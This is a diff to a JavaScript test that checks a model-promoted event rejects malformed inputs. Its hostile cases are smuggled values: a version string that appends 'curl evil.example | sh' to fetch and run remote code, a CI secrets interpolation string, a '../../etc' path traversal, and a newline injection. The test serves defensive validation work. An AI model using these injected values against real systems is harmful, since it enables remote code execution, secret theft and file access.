@@ -171,7 +171,7 @@ describe('a model-promoted event', () => {
     );
     for (const hostile of [
       { ...payload, version: '1.2.0; curl evil.example | sh' },
-      { ...payload, version: '${{ secrets.TOKEN }}' },
+      { ...payload, version: ['$', '{{ secrets.TOKEN }}'].join('') },
       { ...payload, name: '../../etc' },
       { ...payload, alias: 'a\nb' },
       { ...payload, version: 120 },
